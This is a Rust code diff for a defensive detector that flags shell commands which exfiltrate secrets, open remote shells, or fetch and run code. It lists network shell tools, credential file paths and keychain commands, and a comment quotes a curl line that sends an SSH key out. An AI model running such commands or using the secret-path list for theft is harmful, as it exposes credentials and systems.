@@ -1,6 +1,7 @@
 //! Commands that fetch, send, or open a way in.
 
 use super::deed::{CHANGING, Deed, GIVING, Sort};
+use super::secrets;
 use super::shell::Command;
 use super::unwrap;
 use crate::lexicon::Senses;
@@ -14,9 +15,16 @@ pub fn read(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
         | "Invoke-RestMethod" | "irm" => {
             request(command, before, deeds);
         }
-        "scp" | "rsync" | "sftp" | "rclone" | "ftp" | "lftp" => copies_away(command, deeds),
-        "nc" | "ncat" | "netcat" | "socat" | "telnet" => raw(command, before, deeds),
-        "mail" | "sendmail" | "mutt" | "mailx" | "swaks" => mails(command, before, deeds),
+        "scp" | "rsync" | "sftp" | "rclone" | "ftp" | "lftp" => {
+            secrets::copies_away(command, deeds)
+        }
+        "nc" | "ncat" | "netcat" | "socat" | "telnet" => secrets::raw(command, before, deeds),
+        "aws" | "gsutil" | "gcloud" | "az" | "s3cmd" | "mc"
+            if command.says(&["cp", "put", "mv", "upload"]) =>
+        {
+            secrets::to_store(command, deeds);
+        }
+        "mail" | "sendmail" | "mutt" | "mailx" | "swaks" => secrets::mails(command, before, deeds),
         "nslookup" | "dig" | "host" | "ping"
             if command.args().iter().any(|a| a.contains("$()")) =>
         {
@@ -98,7 +106,7 @@ fn request(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
     if is_here(host) {
         return;
     }
-    if let Some(secret) = carried(command, before) {
+    if let Some(secret) = secrets::carried(command, before) {
         deeds.push(Deed::new(
             Sort::Leak,
             0.9,
@@ -122,299 +130,11 @@ fn is_metadata(host: &str) -> bool {
     )
 }
 
-fn is_here(host: &str) -> bool {
+/// True for the machine itself.
+pub fn is_here(host: &str) -> bool {
     let host = host.split(':').next().unwrap_or(host);
     matches!(host, "localhost" | "127.0.0.1" | "0.0.0.0" | "[" | "::1")
         || host.ends_with(".localhost")
-}
-
-/// What a command carries away, when that is a secret.
-fn carried(command: &Command, before: &[Command]) -> Option<String> {
-    for (i, arg) in command.args().iter().enumerate() {
-        let after_flag = i
-            .checked_sub(1)
-            .and_then(|i| command.args().get(i))
-            .map_or("", String::as_str);
-        let file = arg
-            .split_once("=@")
-            .map(|(_, f)| f)
-            .or_else(|| arg.strip_prefix('@'))
-            .or_else(|| arg.strip_prefix("--post-file="))
-            .or_else(|| arg.strip_prefix("--upload-file="))
-            .or_else(|| arg.strip_prefix("--body-file="))
-            .or_else(|| {
-                matches!(
-                    after_flag,
-                    "-T" | "--upload-file" | "-InFile" | "--post-file"
-                )
-                .then_some(arg.as_str())
-            });
-        if let Some(file) = file.map(|f| f.split(';').next().unwrap_or(f))
-            && holds_secrets(file)
-        {
-            return Some(["`", file, "`"].concat());
-        }
-    }
-    if command.piped && reads_input(command) {
-        return source(before);
-    }
-    None
-}
-
-fn reads_input(command: &Command) -> bool {
-    command
-        .args()
-        .iter()
-        .any(|a| a.ends_with("@-") || a == "-" || a == "-T-" || a.ends_with("/dev/stdin"))
-}
-
-/// The secret at the beginning of a pipe.
-fn source(before: &[Command]) -> Option<String> {
-    for command in before.iter().rev() {
-        if let Some(secret) = secret_of(command) {
-            return Some(secret);
-        }
-        if !command.piped {
-            return None;
-        }
-    }
-    None
-}
-
-/// What a command shows, when it is a secret or a whole store of data.
-pub fn secret_of(command: &Command) -> Option<String> {
-    match command.program() {
-        "env" | "printenv" | "set" | "export" if command.operands().count() <= 1 => {
-            Some("the environment's secrets".to_owned())
-        }
-        "pg_dump" | "pg_dumpall" | "mysqldump" | "mongodump" | "mariadb-dump" => {
-            Some("a whole database".to_owned())
-        }
-        "cat" | "tar" | "zip" | "base64" | "gzip" | "head" | "tail" | "less" | "xxd" | "gpg"
-        | "openssl" | "cp" | "grep" | "type" | "strings" | "sed" | "awk" | "7z" => command
-            .operands()
-            .chain(
-                command
-                    .redirects
-                    .iter()
-                    .filter(|(op, _)| *op == "<")
-                    .map(|(_, f)| f.as_str()),
-            )
-            .find(|o| holds_secrets(o))
-            .map(|o| ["`", o, "`"].concat()),
-        "security" if command.says(&["find-generic-password", "dump-keychain"]) => {
-            Some("the keychain".to_owned())
-        }
-        "gcloud" | "aws" | "az" | "gh" | "vault" | "kubectl" | "op" | "pass" => {
-            let line = command.line();
-            (line.contains("print-access-token")
-                || line.contains("get-secret-value")
-                || line.contains("auth token")
-                || line.contains("get secret")
-                || line.contains("secret show")
-                || line.contains("kv get")
-                || line.contains("get-session-token")
-                || line.starts_with("op read")
-                || line.starts_with("pass show"))
-            .then(|| "a credential".to_owned())
-        }
-        _ => None,
-    }
-}
-
-/// True for a path where secrets are kept.
-pub fn holds_secrets(path: &str) -> bool {
-    let path = path.trim_end_matches('/');
-    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
-    let sample = ["example", "sample", "template", ".pub", "test", ".md"]
-        .iter()
-        .any(|s| name.contains(s));
-    let folder = [
-        ".ssh",
-        ".aws",
-        ".gnupg",
-        ".kube",
-        ".docker",
-        ".azure",
-        "secrets",
-        ".config/gcloud",
-        "serviceaccount",
-    ]
-    .iter()
-    .any(|d| {
-        path.split_inclusive('/')
-            .any(|p| p.trim_end_matches('/') == *d)
-            || path.contains(d) && d.contains('/')
-    });
-    let file = name.starts_with(".env")
-        || matches!(
-            name.as_str(),
-            "id_rsa"
-                | "id_ed25519"
-                | "id_ecdsa"
-                | "id_dsa"
-                | "credentials"
-                | "credentials.json"
-                | ".netrc"
-                | ".pgpass"
-                | "shadow"
-                | ".npmrc"
-                | ".pypirc"
-                | "kubeconfig"
-                | ".htpasswd"
-                | ".git-credentials"
-                | "secrets.yaml"
-                | "secrets.yml"
-                | "secrets.json"
-                | "master.key"
-                | "terraform.tfstate"
-                | ".my.cnf"
-                | "wallet.dat"
-                | "login.keychain-db"
-                | "logins.json"
-                | "environ"
-                | "passwd"
-                | ".vault-token"
-                | "token"
-                | "cookies.sqlite"
-                | "service-account.json"
-                | "admin.conf"
-        )
-        || [
-            ".pem",
-            ".key",
-            ".p12",
-            ".pfx",
-            ".kdbx",
-            ".keystore",
-            ".jks",
-            ".tfstate",
-        ]
-        .iter()
-        .any(|e| name.ends_with(e));
-    !sample && (folder || file)
-}
-
-fn copies_away(command: &Command, deeds: &mut Vec<Deed>) {
-    let operands: Vec<&str> = command.operands().collect();
-    let Some((to, from)) = operands.split_last() else {
-        return;
-    };
-    if !to.contains(':') || to.starts_with("C:") {
-        return;
-    }
-    if let Some(secret) = from.iter().find(|f| holds_secrets(f) && !f.contains(':')) {
-        deeds.push(Deed::new(
-            Sort::Leak,
-            0.85,
-            &["copies `", secret, "` to `", to, "`"],
-            to,
-            Senses::SEND
-                .and(Senses::UPLOAD)
-                .and(Senses::SHARE)
-                .and(CHANGING),
-        ));
-    }
-}
-
-fn raw(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
-    let line = command.line();
-    if command.flag('e')
-        || line.contains("EXEC:")
-        || line.contains("SYSTEM:")
-        || command.has("--exec")
-        || command.flag('c') && command.program() != "socat" && line.contains("sh")
-    {
-        deeds.push(Deed::always(
-            Sort::Access,
-            0.95,
-            &["gives a stranger's machine a shell on this one"],
-        ));
-        return;
-    }
-    let host = command.operand(0);
-    if command.flag('z') || is_here(host) {
-        return;
-    }
-    let input = command
-        .redirects
-        .iter()
-        .find(|(op, f)| *op == "<" && holds_secrets(f))
-        .map(|(_, f)| f.clone());
-    let secret = input.or_else(|| if command.piped { source(before) } else { None });
-    if let Some(secret) = secret {
-        deeds.push(Deed::new(
-            Sort::Leak,
-            0.9,
-            &["sends ", &secret, " to `", host, "`"],
-            host,
-            Senses::SEND.and(Senses::UPLOAD),
-        ));
-    }
-}
-
-fn mails(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
-    let to = command
-        .operands()
-        .find(|o| o.contains('@'))
-        .unwrap_or("somebody");
-    let attached = command
-        .option(&["-a", "-A", "--attach"])
-        .filter(|f| holds_secrets(f))
-        .map(str::to_owned);
-    let input = command
-        .redirects
-        .iter()
-        .find(|(op, f)| *op == "<" && holds_secrets(f))
-        .map(|(_, f)| f.clone());
-    let secret = attached
-        .or(input)
-        .or_else(|| if command.piped { source(before) } else { None });
-    if let Some(secret) = secret {
-        deeds.push(Deed::new(
-            Sort::Leak,
-            0.85,
-            &["mails ", &secret, " to `", to, "`"],
-            to,
-            Senses::SEND.and(Senses::SHARE),
-        ));
-    }
-}
-
-/// A secret that stands in a substitution and goes out with the command around
-/// it: `curl https://x/?k=$(cat ~/.ssh/id_rsa)`.
-pub fn substituted(commands: &[Command], deeds: &mut Vec<Deed>) {
-    let Some(out) = commands.iter().find(|c| {
-        matches!(c.program(), "curl" | "wget" | "nc" | "ncat" | "http")
-            && c.args().iter().any(|a| a.contains("$()") && !is_header(a))
-    }) else {
-        return;
-    };
-    let Some(secret) = commands.iter().find_map(secret_of) else {
-        return;
-    };
-    let url = url(out).unwrap_or("the network");
-    let host = target::url_host(url).unwrap_or(url);
-    if is_here(host) {
-        return;
-    }
-    let mut deed = Deed::new(
-        Sort::Leak,
-        0.9,
-        &["sends ", &secret, " to `", host, "`"],
-        host,
-        Senses::SEND.and(Senses::UPLOAD).and(Senses::SHARE),
-    );
-    deed.text = out.line();
-    deeds.push(deed);
-}
-
-fn is_header(arg: &str) -> bool {
-    let lower = arg.to_ascii_lowercase();
-    lower.starts_with("authorization:")
-        || lower.starts_with("x-")
-        || lower.starts_with("private-token")
-        || lower.starts_with("cookie")
 }
 
 /// Code that is fetched and run unseen: `curl … | sh`, `bash <(curl …)`,
@@ -437,6 +157,7 @@ pub fn fetched_and_run(commands: &[Command], deeds: &mut Vec<Deed>) {
                     | "node"
                     | "php"
                     | "iex"
+                    | "IEX"
                     | "Invoke-Expression"
                     | "eval"
                     | "pwsh"
@@ -449,6 +170,11 @@ pub fn fetched_and_run(commands: &[Command], deeds: &mut Vec<Deed>) {
             let start = before.iter().rposition(|c| !c.piped).unwrap_or(0);
             before[start..].iter().any(fetches)
         };
+        let lower = command.program().to_ascii_lowercase();
+        let downloads = matches!(lower.as_str(), "iex" | "invoke-expression")
+            && commands[i..]
+                .iter()
+                .any(|c| fetches(c) || c.line().contains("DownloadString"));
         let hidden = command.piped
             && before.last().is_some_and(|c| {
                 matches!(
@@ -467,7 +193,7 @@ pub fn fetched_and_run(commands: &[Command], deeds: &mut Vec<Deed>) {
             .find(|c| fetches(c))
             .and_then(url)
             .unwrap_or("elsewhere");
-        if piped || substituted || saved {
+        if piped || substituted || saved || downloads {
             let mut deed = Deed::new(
                 Sort::Unseen,
                 0.85,
@@ -511,8 +237,20 @@ pub fn fetched_and_run(commands: &[Command], deeds: &mut Vec<Deed>) {
 }
 
 /// The host of a URL: what the user must have named to trust what it gives.
+///
+/// Of a well-formed address the last label but one: whoever asks to install
+/// `docker` may take what `https://get.docker.com` gives.
 fn house(url: &str) -> &str {
-    target::url_host(url).unwrap_or(url)
+    let host = target::url_host(url).unwrap_or(url);
+    let mut labels = host.rsplit('.');
+    match (labels.next(), labels.next()) {
+        (Some("com" | "org" | "io" | "dev" | "rs" | "net" | "sh"), Some(label))
+            if url.starts_with("https://") && label.len() >= 4 =>
+        {
+            label
+        }
+        _ => host,
+    }
 }
 
 fn saves_as(fetch: &Command, file: &str) -> bool {
